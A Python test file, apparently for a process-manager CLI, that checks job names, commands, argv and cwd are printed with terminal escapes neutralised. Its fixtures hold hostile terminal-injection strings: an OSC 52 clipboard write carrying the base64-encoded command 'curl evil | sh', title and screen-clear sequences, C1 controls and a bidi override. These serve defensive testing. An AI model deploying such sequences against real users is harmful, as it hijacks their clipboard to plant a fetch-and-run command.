"""Escapes in what a job controls (its name, command, argv, cwd) never reach the terminal
through the CLI: every human output shows them as escapes, JSON output escapes C1 and bidi
controls too (the json module only escapes C0) and still decodes to the exact values.

The argv case is the one found: `exec -a $'\\e]52;c;<base64>\\e\\\\' sleep 60` made
`hermes-procs tree` write the attacker's command to the clipboard of whoever looked.
"""

from __future__ import annotations

import base64
import json
import re
import shlex
import subprocess
import sys

import pytest
from conftest import wait_until

pytestmark = pytest.mark.timeout(90)

PAYLOAD = base64.b64encode(b"curl evil | sh").decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x1b\\"
# what a job may put in its name or command: OSC 52 (clipboard) with ST and with BEL, a title,
# the 8-bit C1 forms of CSI, OSC and ST, a bare BEL, a screen clear, a right-to-left override
HOSTILE = [OSC52, f"\x1b]52;c;{PAYLOAD}\x07", "\x1b]2;pwned-title\x07", f"\x9d52;c;{PAYLOAD}\x9c", "\x9b31m",
           "\x07", "\x1b[2J", "\u202etxt.exe", "\x85", "line\u2028sep\u2029"]
NAME = "evil" + "".join(HOSTILE)
COMMAND = "sleep 60 # " + "".join(HOSTILE)
# bytes that must never reach a terminal: C0 but tab and newline, DEL, C1 (UTF-8: C2 80-9F), bidi
# embeddings/overrides (E2 80 AA-AE) and isolates (E2 81 A6-A9)
UNSAFE = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8-\xae]|\xe2\x81[\xa6-\xa9]")


def cli(home, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "hermes_procs", "--home", str(home), *args],
                          capture_output=True, timeout=60)


def assert_safe(result: subprocess.CompletedProcess, what: str) -> None:
    for stream in (result.stdout, result.stderr):
        found = UNSAFE.findall(stream)
        assert not found, f"{what}: {found[:5]} reached the terminal in {stream[:400]!r}"


@pytest.fixture
def hostile(registry, tmp_path):
    """Jobs with hostile text everywhere: the name and command (a finished one and a running one),
    a cwd, and a process whose argv[0] is an OSC 52 clipboard write."""
    cwd = tmp_path / "dir\x1b]2;cwd-title\x07\x9b2J"
    cwd.mkdir()
    done = registry.spawn("exit 3 # " + "".join(HOSTILE), name=NAME, cwd=str(cwd))["session_id"]
    registry.wait(done, timeout=30)
    running = registry.spawn(COMMAND, name=NAME)["session_id"]
    argv = registry.spawn(f"exec -a $'\\e]52;c;{PAYLOAD}\\e\\\\' sleep 60", name="argv")["session_id"]
    wait_until(lambda: any(OSC52 in p["command"] for p in registry.tree(argv)["processes"]), timeout=10)
    printed = registry.spawn(f"{sys.executable} -c 'import sys; sys.stdout.write(sys.argv[1])' "
                             f"{shlex.quote(''.join(HOSTILE) + chr(10))}", name="printer")["session_id"]
    registry.wait(printed, timeout=30)
    return {"done": done, "running": running, "argv": argv, "cwd": str(cwd), "printed": printed}


def test_human_output_shows_escapes_never_sends_them(registry, hostile):
    home = registry.home
    runs = {
        "ls": cli(home, "ls"), "ls --all": cli(home, "ls", "--all"),
        "poll": cli(home, "poll", hostile["running"]), "poll done": cli(home, "poll", hostile["done"]),
        "tree": cli(home, "tree", hostile["argv"]),
        "wait": cli(home, "wait", hostile["running"], "--timeout", "0.1"),
        "kill done": cli(home, "kill", hostile["done"]),
        "log": cli(home, "log", hostile["done"]),
        "log output": cli(home, "log", hostile["printed"]),
        "log -f": cli(home, "log", hostile["printed"], "--follow"),  # a pipe: lines as `log` gives them
    }
    for what, result in runs.items():
        assert_safe(result, what)
    ls = runs["ls"].stdout.decode()
    assert "evil\\x1b]52;c;" + PAYLOAD in ls and "\\x9b31m" in ls and "\\u202etxt.exe" in ls  # shown, escaped
    tree = runs["tree"].stdout.decode()
    assert f"\\x1b]52;c;{PAYLOAD}\\x1b\\ 60" in tree  # the argv, readable: exec -a's name then sleep's argument
    assert "\\x1b]52;c;" in runs["poll"].stdout.decode()
    assert "\\u202etxt.exe" in runs["log -f"].stdout.decode() and runs["log -f"].stdout == runs["log output"].stdout


def test_json_output_escapes_c1_and_bidi_and_keeps_the_values(registry, hostile):
    home = registry.home
    for args in (["ls", "--json"], ["poll", "--json", hostile["running"]], ["tree", "--json", hostile["argv"]],
                 ["poll", "--json", hostile["done"]], ["events", "--consumer", "t"]):
        result = cli(home, *args)
        assert result.returncode == 0, (args, result.stderr)
        assert_safe(result, " ".join(args))
        assert b"\\u009b" in result.stdout or args[0] == "tree" or args[0] == "events"
        docs = [json.loads(line) for line in result.stdout.decode().splitlines() if line.strip()]
        assert docs
    jobs = json.loads(cli(home, "ls", "--json").stdout)
    assert {job["name"] for job in jobs} >= {NAME}  # the exact value, through the escapes
    assert {job["command"] for job in jobs} >= {COMMAND}
    polled = json.loads(cli(home, "poll", "--json", hostile["done"]).stdout)
    assert polled["cwd"] == hostile["cwd"]
    processes = json.loads(cli(home, "tree", "--json", hostile["argv"]).stdout)["processes"]
    assert any(p["command"].startswith(OSC52) for p in processes)


def test_errors_quoting_a_hostile_value_are_safe(registry, hostile, tmp_path):
    home = registry.home
    missing = str(tmp_path / "no\x1b]2;x\x07such")
    result = cli(home, "run", "--cwd", missing, "--", "true")
    assert result.returncode == 1 and result.stderr.count(b"\n") == 1
    assert_safe(result, "run --cwd")
    assert b"\\x1b]2;x\\x07" in result.stderr


def test_the_agent_tools_json_escapes_them_too(registry, hostile):
    """The process tool's JSON string (and the MCP server's text, the same function) may be
    printed by an agent's UI: no raw C1 or bidi control, the exact values after decoding."""
    from hermes_procs.core.agents.tool import handle_process

    text = handle_process({"action": "list"}, registry)
    assert not UNSAFE.findall(text.encode()), text[:300]
    assert "\\u009b" in text
    assert NAME in {job["name"] for job in json.loads(text)["processes"]}
